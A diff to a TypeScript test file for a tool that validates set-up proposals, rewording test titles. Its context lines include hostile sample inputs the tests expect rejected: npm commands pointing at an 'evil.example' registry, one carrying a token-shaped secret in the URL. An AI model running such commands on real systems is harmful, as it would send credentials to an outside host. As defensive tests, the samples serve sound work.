@@ -1,4 +1,4 @@
-/** What a set-up run's file is worth once it has left the sandbox, beyond what every run's file needs, and the settings that follow from it. */
+/** How a set-up run's file is read once it has left the sandbox, beyond what every run's file needs, and the settings that follow. */
 import { noSettings, noUsage, type RepositorySettings, type SetUpProposal } from "@aedev/contracts";
 import { expect, it } from "vitest";
 import { proposedSettings, readSetUp } from "../../src/work/set-up.ts";
@@ -25,7 +25,7 @@ const read = (file: object, settings: RepositorySettings = noSettings, basePaths
 /** Built here, so that no file of this repository has the form of a secret. */
 const secret = ["ghp", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"].join("_");
 
-it("is a proposal if it has the form; anything else is named without repeating what is hostile", async () => {
+it("a file in the right form is a proposal; anything else is named without repeating hostile text", async () => {
   expect(await read(good)).toEqual({ outcome: "proposed", proposal: good });
   expect(await read({})).toMatchObject({ outcome: "failed", code: "wrong-form" });
   expect(await read({ ...good, "\u001b[31mimage": "x" })).toMatchObject({
@@ -35,7 +35,7 @@ it("is a proposal if it has the form; anything else is named without repeating w
   expect(broken).toMatchObject({ code: "wrong-form", detail: "verify.0: not one line of visible characters" });
 });
 
-it("is none with an address that no configured registry has", async () => {
+it("a file with an address that no configured registry has is no proposal", async () => {
   const outcome = async (prepare: string) => (await read({ ...good, prepare })).outcome;
   for (const command of [
     "npm ci --registry https://evil.example",
@@ -58,7 +58,7 @@ it("is none with an address that no configured registry has", async () => {
     expect([command, await outcome(command)]).toEqual([command, "proposed"]);
 });
 
-it("is none that makes files of the base writable, unless a person already did", async () => {
+it("a file that makes files of the base writable is no proposal, unless a person already did so", async () => {
   const basePaths = ["spec/sum.js", "src/a.js", "tmp", "tmpl/a.txt", "spec-data.json"];
   const readWith = (writable: string[], settings?: RepositorySettings) =>
     read({ ...good, writable }, settings, basePaths);
@@ -74,7 +74,7 @@ it("is none that makes files of the base writable, unless a person already did",
   expect(await readWith(["src", "spec"], before)).toMatchObject({ code: "wrong-form" });
 });
 
-it("is none with a secret, which is not repeated, not even as a part of an address", async () => {
+it("a file with a secret is no proposal, and the secret is not repeated, even as part of an address", async () => {
   for (const change of [
     { verify: [`TOKEN=${secret} npm test`] },
     { prepare: `npm ci --registry https://x:${secret}@evil.example` },
@@ -85,7 +85,7 @@ it("is none with a secret, which is not repeated, not even as a part of an addre
   }
 });
 
-it("adds packages to aedev's own images only, and keeps what it does not propose", async () => {
+it("a proposal adds packages only to aedev's own images, and keeps what it does not mention", async () => {
   const before = {
     ...noSettings,
     folder: "packages/a",
